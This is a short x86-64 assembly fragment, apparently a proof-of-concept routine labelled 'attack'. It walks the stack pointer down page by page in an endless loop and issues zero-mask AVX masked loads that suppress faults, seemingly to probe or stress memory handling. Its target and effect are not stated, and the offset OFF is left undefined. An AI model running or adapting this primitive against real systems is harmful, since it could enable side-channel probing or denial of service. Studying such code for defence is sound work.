function attack
    vpxor %xmm1,%xmm1,%xmm1
1:  lea -0x1000(%rsp),%rsp
    vmaskmovps -OFF(%rsp),%xmm1,%xmm0
    jmp 1b
    ret
